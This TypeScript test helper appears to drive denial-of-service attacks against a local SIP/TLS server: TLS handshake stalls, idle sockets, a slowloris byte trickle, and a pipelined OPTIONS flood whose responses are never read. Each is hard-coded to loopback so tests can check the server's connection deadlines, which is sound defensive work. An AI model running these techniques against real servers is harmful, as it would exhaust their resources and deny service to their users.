/**
 * The attacks of issue 14, as an attacker on loopback runs them: each keeps
 * `connections` sockets open against the target for the whole run (a socket
 * the target closes is opened again 100 ms later) and records when each was
 * opened and closed, so the test can check every one against the target's
 * documented deadline.
 *
 * - tls-handshake: TCP connections to the TLS port that never send a ClientHello.
 * - idle: TCP connections that never send a byte.
 * - slowloris: TCP connections sending a header one byte every 100 ms.
 * - no-read: TCP connections pipelining OPTIONS as fast as the target takes
 *   them and never reading a response.
 */
import { connect, type Socket } from 'node:net';

export type AttackKind = 'tls-handshake' | 'idle' | 'slowloris' | 'no-read';

export interface AttackSocket {
  readonly openedAt: number;
  /** When we saw it closed (performance.now()); -1 while open. */
  closedAt: number;
  /** Bytes written. */
  written: number;
}

export interface Attack {
  readonly kind: AttackKind;
  readonly sockets: AttackSocket[];
  /** Closes every socket and stops reopening. */
  stop(): void;
}

const REOPEN_MS = 100;

function options(callId: number): string {
  return (
    'OPTIONS sip:attack@127.0.0.1 SIP/2.0\r\n' +
    `Via: SIP/2.0/TCP 127.0.0.1:9;branch=z9hG4bK-atk-${callId}\r\n` +
    'Max-Forwards: 70\r\nFrom: <sip:a@127.0.0.1>;tag=a\r\nTo: <sip:b@127.0.0.1>\r\n' +
    `Call-ID: atk-${callId}\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n`
  );
}

/** 64 pipelined OPTIONS with distinct Call-IDs (a fresh batch per write would cost the attacker more than the target). */
function pipelineBatch(seed: number): Buffer {
  let text = '';
  for (let k = 0; k < 64; k++) text += options(seed * 64 + k);
  return Buffer.from(text);
}

export function startAttack(kind: AttackKind, port: number, connections: number): Attack {
  const sockets: AttackSocket[] = [];
  const live = new Set<Socket>();
  let stopped = false;
  let batches = 0;

  const open = (): void => {
    if (stopped) return;
    const record: AttackSocket = { openedAt: performance.now(), closedAt: -1, written: 0 };
    sockets.push(record);
    const socket = connect({ host: '127.0.0.1', port });
    live.add(socket);
    let timer: ReturnType<typeof setInterval> | undefined;
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      live.delete(socket);
      if (record.closedAt < 0) record.closedAt = performance.now();
      if (!stopped) setTimeout(open, REOPEN_MS);
    });
    socket.once('connect', () => {
      if (kind === 'slowloris') {
        const header = `OPTIONS sip:slow@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.1:9;branch=z9hG4bK-slow\r\n${'X-Slow: y\r\n'.repeat(1000)}`;
        let at = 0;
        timer = setInterval(() => {
          socket.write(header[at++ % header.length]!);
          record.written++;
        }, 100);
      } else if (kind === 'no-read') {
        socket.pause(); // never reads: responses pile up on the target
        const batch = pipelineBatch(batches++ % 1024);
        const pump = (): void => {
          // Write while the kernel takes it; then wait for 'drain' (an attacker with a bounded memory of its own).
          while (!socket.destroyed) {
            record.written += batch.length;
            if (!socket.write(batch)) return;
          }
        };
        socket.on('drain', pump);
        pump();
      }
    });
  };

  for (let k = 0; k < connections; k++) open();
  return {
    kind,
    sockets,
    stop() {
      stopped = true;
      for (const socket of live) socket.destroy();
    },
  };
}
